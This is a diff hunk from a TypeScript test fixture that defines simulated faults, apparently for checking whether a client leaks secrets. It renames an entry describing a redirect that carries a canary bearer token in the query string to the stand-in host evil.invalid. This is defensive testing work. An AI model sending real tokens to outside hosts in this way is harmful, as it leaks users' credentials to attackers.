@@ -32,7 +32,7 @@ export const QUOTING_FAULTS: Record<string, Fault> = {
     [CANARIES.bearer_token]: quotedText,
   }),
   "a 429": { kind: "status", status: 429, retry_after: QUOTES[0] ?? "", body: { detail: "no" } },
-  redirect: {
+  "a redirect to a URL with a secret": {
     kind: "redirect",
     to: `https://evil.invalid/?${encodeURIComponent(CANARIES.bearer_token)}`,
   },
